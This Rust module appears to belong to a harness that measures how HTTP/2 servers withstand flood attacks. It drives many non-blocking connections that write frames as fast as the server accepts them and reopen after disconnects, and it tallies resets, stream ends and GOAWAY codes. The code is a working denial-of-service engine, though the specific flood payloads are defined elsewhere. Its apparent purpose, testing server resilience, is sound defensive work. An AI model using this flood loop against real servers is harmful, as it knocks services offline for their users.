//! The attacker: plain sockets that it writes to as fast as the server reads, and reopens when the server closes them.

use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use clap::Args;
use rustix::event::{PollFd, PollFlags, Timespec, poll};
use serde::{Deserialize, Serialize};

use super::attack::{Answer, Attack, Pace};
use super::attacks;
use super::frames::{ACK, END_STREAM, Frames, GOAWAY, HEADER, HEADERS, PING, RST_STREAM, SETTINGS};
use crate::measure;
use crate::process::{self, Ready};

/// Arguments of the attacker.
#[derive(Clone, Debug, PartialEq, Eq, Args)]
pub(crate) struct AttackerOptions {
    /// The attack, by its name.
    #[arg(long)]
    pub(super) attack: String,
    /// The server to attack.
    #[arg(long)]
    pub(super) connect: SocketAddr,
    /// Duration in milliseconds.
    #[arg(long, default_value_t = 10_000)]
    pub(super) window: u64,
    /// The core to run on.
    #[arg(long)]
    pub(super) core: Option<usize>,
}

impl AttackerOptions {
    /// The equivalent command line.
    pub(super) fn to_arguments(&self) -> Vec<String> {
        let mut arguments = vec![
            "floods-attacker".to_owned(),
            format!("--attack={}", self.attack),
            format!("--connect={}", self.connect),
            format!("--window={}", self.window),
        ];
        arguments.extend(self.core.map(|core| format!("--core={core}")));
        arguments
    }
}

/// Main function of the attacker's process.
pub(crate) fn run_attacker(options: &AttackerOptions) -> io::Result<()> {
    let attack = attacks::find(&options.attack)
        .ok_or_else(|| io::Error::new(io::ErrorKind::InvalidInput, "no attack of this name"))?;
    process::prepare(options.core)?;
    // It may share its core with the well-behaved client, which would wait for the end of its time slices.
    measure::lower_priority()?;
    process::write_report(&Ready {})?;
    let mut commands = io::stdin().lines();
    if commands.next().transpose()?.is_some() {
        process::write_report(&run(attack, options.connect, Duration::from_millis(options.window))?)?;
    }
    commands.try_for_each(|line| line.map(drop))
}

/// Result of an attack.
#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub(super) struct AttackResult {
    /// Number of iterations on all connections.
    #[serde(rename = "turns")]
    pub(super) iterations: u64,
    /// Bytes accepted by the server's socket.
    pub(super) sent: u64,
    /// Connections closed by the server.
    pub(super) closed: u64,
    /// Streams reset by the server.
    pub(super) resets: u64,
    /// Streams ended by the server.
    pub(super) ended: u64,
    /// Error code of the last GOAWAY frame.
    #[serde(rename = "goodbye")]
    pub(super) goaway_code: Option<u32>,
}

/// Attacks the server for the duration of `window`.
pub(super) fn run(attack: &Attack, server: SocketAddr, window: Duration) -> io::Result<AttackResult> {
    let until = Instant::now() + window;
    let mut result = AttackResult::default();
    let mut connections = Vec::with_capacity(attack.connections);
    while connections.len() < attack.connections {
        connections.push(Connection::open(attack, server)?);
    }
    while let Some(remaining) = until.checked_duration_since(Instant::now()) {
        let ready = wait(&connections, remaining)?;
        for (connection, ready) in connections.iter_mut().zip(ready) {
            if !connection.on_ready(ready)? {
                result.closed += 1;
                result.add(&std::mem::replace(connection, Connection::open(attack, server)?));
            }
        }
    }
    connections.iter().for_each(|connection| result.add(connection));
    Ok(result)
}

impl AttackResult {
    fn add(&mut self, connection: &Connection<'_>) {
        let FrameCounts { ended, resets, goaway_code, .. } = connection.received;
        self.iterations += u64::from(connection.iterations);
        self.sent += connection.total_sent;
        self.ended += u64::from(ended);
        self.resets += u64::from(resets);
        self.goaway_code = goaway_code.or(self.goaway_code);
    }
}

/// Waits until one of the connections is ready, at most this long: polling a thousand of them
/// periodically would take time from the well-behaved client. Returns the readiness of each.
fn wait(connections: &[Connection<'_>], remaining: Duration) -> io::Result<Vec<PollFlags>> {
    let remaining = Timespec { tv_sec: remaining.as_secs() as i64, tv_nsec: remaining.subsec_nanos().into() };
    let mut sockets: Vec<_> =
        connections.iter().map(|connection| PollFd::new(&connection.socket, connection.interest())).collect();
    match poll(&mut sockets, Some(&remaining)) {
        Ok(_) | Err(rustix::io::Errno::INTR) => {}
        Err(error) => return Err(error.into()),
    }
    Ok(sockets.iter().map(PollFd::revents).collect())
}

/// One connection of the attacker.
#[derive(Debug)]
struct Connection<'a> {
    attack: &'a Attack,
    socket: TcpStream,
    frames: Frames,
    /// Number of bytes of `frames` that are already written.
    sent: usize,
    iterations: u32,
    /// Total number of bytes accepted by the socket.
    total_sent: u64,
    received: FrameCounts,
}

/// Maximum size of one write or read, in bytes.
const BUFFER_SIZE: usize = 64 << 10;

impl<'a> Connection<'a> {
    fn open(attack: &'a Attack, server: SocketAddr) -> io::Result<Self> {
        let socket = TcpStream::connect(server)?;
        socket.set_nodelay(true)?;
        socket.set_nonblocking(true)?;
        let mut frames = Frames::begin();
        (attack.opening)(&mut frames);
        Ok(Self {
            attack,
            socket,
            frames,
            sent: 0,
            iterations: 0,
            total_sent: 0,
            received: FrameCounts::default(),
        })
    }

    fn interest(&self) -> PollFlags {
        let mut interest = if self.attack.reads { PollFlags::IN } else { PollFlags::RDHUP };
        if self.sent < self.frames.bytes.len() || self.can_generate() {
            interest |= PollFlags::OUT;
        }
        interest
    }

    /// Reads and writes as far as possible. `false`: the server has closed the connection.
    fn on_ready(&mut self, ready: PollFlags) -> io::Result<bool> {
        let hangup = PollFlags::RDHUP | PollFlags::HUP | PollFlags::ERR;
        if (self.attack.reads || ready.intersects(hangup))
            && ready.intersects(PollFlags::IN | hangup)
            && !self.read()?
        {
            return Ok(false);
        }
        if ready.contains(PollFlags::OUT) {
            self.fill_buffer();
            return self.write();
        }
        Ok(true)
    }

    /// Generates iterations until a full write is buffered.
    fn fill_buffer(&mut self) {
        if self.sent == self.frames.bytes.len() {
            self.frames.bytes.clear();
            self.sent = 0;
        }
        while self.frames.bytes.len() - self.sent < BUFFER_SIZE && self.can_generate() {
            (self.attack.iteration)(&mut self.frames, self.iterations);
            self.iterations += 1;
        }
    }

    fn can_generate(&self) -> bool {
        match self.attack.pace {
            Pace::Flood => true,
            Pace::InStep(ahead, answer) => self.iterations < ahead + self.received.count(answer),
            Pace::Once => false,
        }
    }

    fn write(&mut self) -> io::Result<bool> {
        match self.socket.write(&self.frames.bytes[self.sent..]) {
            Ok(written) => {
                self.sent += written;
                self.total_sent += written as u64;
                Ok(true)
            }
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => Ok(true),
            Err(error) if is_disconnect(&error) => self.read(),
            Err(error) => Err(error),
        }
    }

    /// Reads everything available.
    fn read(&mut self) -> io::Result<bool> {
        let mut buffer = [0; BUFFER_SIZE];
        loop {
            match self.socket.read(&mut buffer) {
                Ok(0) => return Ok(false),
                Ok(read) => self.received.parse(&buffer[..read]),
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => return Ok(true),
                Err(error) if is_disconnect(&error) => return Ok(false),
                Err(error) => return Err(error),
            }
        }
    }
}

fn is_disconnect(error: &io::Error) -> bool {
    matches!(error.kind(), io::ErrorKind::ConnectionReset | io::ErrorKind::BrokenPipe)
}

/// Counters of the server's frames on a connection.
#[derive(Debug, Default)]
struct FrameCounts {
    /// The start of an incomplete frame.
    rest: Vec<u8>,
    ended: u32,
    resets: u32,
    acks: u32,
    goaway_code: Option<u32>,
}

impl FrameCounts {
    fn count(&self, answer: Answer) -> u32 {
        match answer {
            Answer::End => self.ended,
            Answer::Ack => self.acks,
        }
    }

    fn parse(&mut self, bytes: &[u8]) {
        let mut all = std::mem::take(&mut self.rest);
        all.extend_from_slice(bytes);
        let mut rest = &all[..];
        while let Some(&[l0, l1, l2, kind, flags, ..]) = rest.first_chunk::<HEADER>() {
            let length = u32::from_be_bytes([0, l0, l1, l2]) as usize;
            let Some((frame, behind)) = rest.split_at_checked(HEADER + length) else { break };
            self.count_frame(kind, flags, &frame[HEADER..]);
            rest = behind;
        }
        self.rest = rest.to_vec();
    }

    fn count_frame(&mut self, kind: u8, flags: u8, payload: &[u8]) {
        match (kind, payload) {
            (HEADERS, _) if flags & END_STREAM != 0 => self.ended += 1,
            (RST_STREAM, _) => self.resets += 1,
            (SETTINGS | PING, _) if flags & ACK != 0 => self.acks += 1,
            (GOAWAY, &[_, _, _, _, a, b, c, d, ..]) => {
                self.goaway_code = Some(u32::from_be_bytes([a, b, c, d]));
            }
            _ => {}
        }
    }
}
